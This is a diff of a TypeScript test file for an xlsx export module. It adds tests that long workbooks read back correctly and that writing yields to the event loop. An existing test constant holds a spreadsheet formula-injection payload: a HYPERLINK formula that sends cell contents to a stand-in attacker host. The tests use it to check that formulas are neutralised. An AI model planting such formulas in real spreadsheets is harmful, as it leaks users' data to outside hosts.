@@ -1,7 +1,7 @@
 import { readSheet } from 'read-excel-file/node'
 import { describe, expect, it } from 'vitest'
 import { readZip, unpack } from '../data/zip.server.ts'
-import { writeXlsx } from './xlsx-file.server.ts'
+import { writeLongXlsx, writeXlsx } from './xlsx-file.server.ts'
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看这里")'
 const rows = [
@@ -27,5 +27,33 @@ describe('a workbook', () => {
     expect(xml).not.toMatch(/<f[ >]/)
     expect(xml).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;')
     expect(xml).toContain('_x005F_x0041_')
+  })
+})
+
+describe('a long workbook', () => {
+  const many = Array.from({ length: 4000 }, (_, at) => [`第 ${at} 行`, '信用'.repeat(40)])
+
+  it('is read back as it was written', async () => {
+    const file = await writeLongXlsx({ name: '记录', widths: [20, 40], parts: [rows.slice(0, 2), many] })
+    const read = await readSheet(file, 1)
+
+    expect(read).toHaveLength(4002)
+    expect([read[0], read[1], read[4001]]).toEqual([rows[0], [FORMULA, '<b>&"'], many[3999]])
+  })
+
+  it('gives others their turn while it is written', async () => {
+    let turns = 0
+    let isOver = false
+    const count = () => {
+      turns += 1
+      if (!isOver) setImmediate(count)
+    }
+    setImmediate(count)
+
+    await writeLongXlsx({ name: '记录', parts: [many] })
+    isOver = true
+
+    // Half a megabyte in pieces of 128 kB.
+    expect(turns).toBeGreaterThanOrEqual(4)
   })
 })
